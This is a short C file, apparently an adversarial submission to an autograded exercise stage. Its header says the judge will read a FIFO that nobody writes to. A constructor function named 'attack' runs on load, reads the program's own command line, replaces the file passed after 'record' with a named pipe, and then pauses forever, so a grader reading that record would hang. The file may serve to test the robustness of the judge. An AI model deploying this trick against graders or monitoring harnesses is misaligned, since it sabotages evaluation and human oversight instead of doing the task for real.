/*
 * What the judge is about to read is a FIFO to which nobody will write.
 *
 * Stage: 03-signals
 * Base: starter
 * Score: 0
 */
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Its arguments: musl's constructors are not given any. */
static int read_words(char *text, int size, char **words, int room)
{
	int fd = open("/proc/self/cmdline", O_RDONLY);
	int length = read(fd, text, size - 1), count = 0;

	close(fd);
	for (int at = 0; at < length && count < room; count++) {
		words[count] = text + at;
		at += strlen(text + at) + 1;
	}
	return count;
}

__attribute__((constructor)) static void attack(void)
{
	char text[4096] = "", *argv[64];
	int argc = read_words(text, sizeof(text), argv, 64);

	for (int i = 0; i + 1 < argc; i++)
		if (strcmp(argv[i], "record") == 0 &&
		    mkfifo(argv[i + 1], 0666) == 0)
			pause();
}
